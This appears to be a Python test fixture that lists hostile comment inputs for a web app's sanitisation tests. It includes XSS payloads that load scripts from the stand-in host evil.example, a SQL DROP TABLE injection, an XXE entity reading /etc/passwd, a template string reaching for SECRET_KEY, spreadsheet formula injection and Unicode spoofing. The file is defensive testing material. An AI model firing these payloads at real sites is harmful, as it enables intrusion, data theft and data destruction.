"""What is typed by somebody who wishes a paper ill, in every field that takes words."""

from dataclasses import dataclass

# Stands in each tag, attribute and address below and nowhere in the paper: an element or an address
# that holds it was made by a reader.
MARK = "xeelx"
ELSEWHERE = "evil.example"

_SCRIPT = f"window.{MARK}=1"
_FIRES = f"onerror={_SCRIPT}"

SCRIPTS = [
    f"<script>{_SCRIPT}</script>",
    f"<script src=//{ELSEWHERE}/s.js></script>",
    f"<img src=//{ELSEWHERE}/i.png {_FIRES}>",
    f"<svg/onload={_SCRIPT}><{MARK}-a {MARK}=1>",
    f"<iframe srcdoc='<script>{_SCRIPT}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src {_FIRES}>",
    f"<details open ontoggle={_SCRIPT}><p id={MARK}>",
    f"<style>@import '//{ELSEWHERE}/s.css'; body {{ display: none }}</style>",
    f"<base href=//{ELSEWHERE}/><meta http-equiv=refresh content='0;//{ELSEWHERE}/'>",
    f"<form id={MARK} action=//{ELSEWHERE}/><button formaction=//{ELSEWHERE}/ autofocus>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s.css><object data=//{ELSEWHERE}/>",
]
# Ways out of what words may stand in.
WAYS_OUT = [
    f'" {MARK}=1 onfocus="{_SCRIPT}" autofocus x="',
    f"' {MARK}=1 onmouseover='{_SCRIPT}' `{_SCRIPT}`",
    f"</textarea><b id={MARK}></title></style></noscript></template></select></svg>",
    f"</script><script>{_SCRIPT}</script><!--<script>-->",
    f"<!-- --><!--> --!><![CDATA[ ]]><? ?><b id={MARK}>",
    f'<noscript><p title="</noscript><img src=x {_FIRES}>">',
    f"<plaintext id={MARK}><xmp><listing>",
    f"&lt;b id={MARK}&gt; &#60;b id={MARK}&#62; &amp;amp; \\u003cb\\u003e \\x3cb\\x3e %3Cb%3E",
    f"＜script＞{_SCRIPT}＜/script＞ ﹤b﹥ ‹b›",
]
TEMPLATES = [
    "{{ 7|add:7 }}{{ request.user }}{{ settings.SECRET_KEY }}{% now 'Y' %}{% debug %}{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{constructor.constructor('1')()}}",
    "%(name)s %s %d %n {0} {name} {0.__class__.__mro__} $name `id` $(id)",
]
DATA = [
    '","status":"approved","x":{"@context":"https://schema.org"},["',
    '\\" \\u0022 \\n \\\\ \u2028 \u2029 \ufeff',
    "'; DROP TABLE comments_comment; -- %' OR '1'='1 \\' _% E'\\\\x00'",
    "]]>&eel;<!ENTITY eel SYSTEM 'file:///etc/passwd'>",
]
ADDRESSES = [
    f"javascript:{_SCRIPT} data:text/html,<b id={MARK}> vbscript:{_SCRIPT}",
    f"http://{ELSEWHERE}/ //{ELSEWHERE}/ www.{ELSEWHERE} \\\\{ELSEWHERE}\\x mail@{ELSEWHERE}",
    f"[x](javascript:{_SCRIPT}) ![x](//{ELSEWHERE}/i.png) <http://{ELSEWHERE}/> [[{ELSEWHERE}]]",
    "../../../etc/passwd /admin/logout/ ?next=//evil.example/ #comment-1",
]
SHEETS = [
    f'=HYPERLINK("http://{ELSEWHERE}/","x")',
    "=cmd|'/c calc'!A1",
    '@SUM(1+1)*cmd|"/c calc"!A0',
    "+1+1",
    "-1+1",
    '","=1+1","\t=1+1',
]
MAILS = [
    f"Bcc: all@{ELSEWHERE}",
    "Content-Type: text/html; boundary=eel",
    "",
    "--eel",
    ".",
    "From eel Mon Jan  1 00:00:00 2001",
    "=?utf-8?q?=3Cb=3E?=",
    "QUIT",
]
LETTERS = [
    "\u202eright to left\u202c \u2067isolated\u2069 \u200f\u200e \u061c",
    "zero\u200bwidth\u200cnon\u200djoiner\ufeffmark\u2060word\u00adsoft\u180e",
    "fill\u3164er\u115f\u1160\uffa0\u2800 no\u00a0break\u202f\u2007",
    "tags\U000e0041\U000e007f variant\ufe0f\U000e0100",
    "none\ufffe\uffff\U0001ffff own\ue000\U000f0000",
    "p" + "\u0301" * 10 + "led up, n\u0303 decomposed, \u212b canonical",
    "Аdmin (Cyrillic), Ａdmin (wide), ad\u0131min, 𝐀dmin, ⓐdmin, ꓮdmin",
    "😀 👩\u200d🚀 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 𝔘𝔫𝔦 \U00020000 ﷽",
]
# Taken out before anything is stored, and a new line where a telephone sends one.
STRIPPED = "\x1b[31mred\x1b[0m \x07\x08\x00\x7f\x85\x9b31m \x0b\x0c\x1c\x1d one\r\ntwo\rthree"


# What stands in each reader's comment, no more than a moderator's note may be, and the name
# above it.
_SENT = {
    "scripts": (f"<img src=//{ELSEWHERE}/ {_FIRES}>", [*SCRIPTS, *TEMPLATES]),
    "ways out": (f"\"'></bdi></title><b id={MARK}>", [*WAYS_OUT, *DATA]),
    "addresses": ('</script>{{ 7|add:7 }}"},{"%s', [*ADDRESSES, "\n".join(SHEETS + MAILS)]),
    "letters": ("=A\u200bd\u00admin Аdmin \ufffe", LETTERS),
}


@dataclass(frozen=True)
class Words:
    """What one reader sends."""

    about: str
    name: str
    text: str
    email: str


ALL = tuple(
    Words(about, name, "\n\n".join(lines), f'"{MARK}<b>{number}"@example.org')
    for number, (about, (name, lines)) in enumerate(_SENT.items())
)
